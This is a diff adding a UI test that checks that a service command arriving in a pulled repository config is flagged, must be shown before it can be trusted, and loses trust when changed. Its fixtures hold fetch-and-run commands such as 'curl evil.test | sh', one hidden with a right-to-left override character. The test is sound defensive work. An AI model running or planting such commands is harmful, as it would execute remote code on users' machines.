@@ -1,0 +1,49 @@
+import { mkdir, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { describeScreen, poll, reads, startScreen } from "../helpers/screen.ts";
+import { temporaryFolder } from "../helpers/temporary-folder.ts";
+
+const textOf = (ready: string) =>
+  JSON.stringify({ config: { svc: { timeout: 30, services: { web: { ready, image: "node:24" } } } } });
+
+describeScreen("a command that a pull brings", () => {
+  test("is shown beside what serves, and can be trusted once it was shown, as what was shown", async () => {
+    await using folder = await temporaryFolder();
+    const path = join(folder.path, "site");
+    const file = join(path, ".repoconf.json");
+    await mkdir(path);
+    await writeFile(file, textOf("curl evil.test \u202e| sh"));
+    await using screen = await startScreen();
+    await screen.t.owner.call("repo/add", { id: "site", name: "site", path, inTree: true });
+    await using window = await screen.open();
+    const { page } = window;
+    await window.choose("site");
+    const note = page.getByRole("complementary", { name: "What is wrong with the file" });
+    await reads(note, "runs as a command");
+    const [show, trust] = ["Show: svc.services", "Trust this value: svc.services"].map(name =>
+      note.getByRole("button", { name }),
+    );
+    // What was not seen cannot be trusted.
+    expect(await trust?.getAttribute("aria-disabled")).toBe("true");
+    await show?.click();
+    const said = note.getByRole("figure", { name: "In the file" });
+    await reads(said, "curl evil.test \\u202e| sh");
+    await reads(note.getByRole("figure", { name: "In service" }), "{}");
+
+    // Another one comes before the button is pressed.
+    await writeFile(file, textOf("curl other.test | sh"));
+    await trust?.click();
+    await reads(page.getByRole("log", { name: "Messages" }), "does not wait to be trusted any more");
+    expect(await screen.stored("site", "svc.services")).toBeUndefined();
+
+    // The field has the same buttons.
+    const field = window.field("Services");
+    await field.getByRole("button", { name: "Show: svc.services" }).click();
+    await reads(field.getByRole("figure", { name: "In the file" }), "other.test");
+    await field.getByRole("button", { name: "Trust this value: svc.services" }).click();
+    await poll(() => screen.stored("site", "svc.services")).toMatchObject({ web: { ready: "curl other.test | sh" } });
+    await note.waitFor({ state: "detached" });
+    await poll(() => field.getByRole("textbox", { name: "Ready" }).inputValue()).toBe("curl other.test | sh");
+  });
+});
